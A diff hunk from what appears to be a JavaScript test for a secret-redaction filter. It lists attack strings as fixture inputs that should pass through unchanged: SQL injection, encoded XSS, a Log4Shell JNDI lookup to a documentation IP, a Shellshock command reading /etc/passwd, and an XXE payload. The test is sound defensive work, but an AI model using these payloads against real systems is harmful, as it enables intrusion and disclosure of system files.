@@ -130,7 +130,7 @@ describe('text without secrets', () => {
     'q=1%27%20UNION%20SELECT%20NULL,NULL,name%20FROM%20users--',
     '{"q":"\\u003cscript\\u003ealert(1)"}',
     '${jndi:ldap://192.0.2.1:1389/a}',
-    'http://192.0.2.1:8080/a?mail=ada@example.com',
+    'http://192.0.2.1:8080/a?mail=ada',
     '() { :;}; /bin/bash -c "cat /etc/passwd"',
     '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
   ])('text without secrets is kept: %s', (text) => {
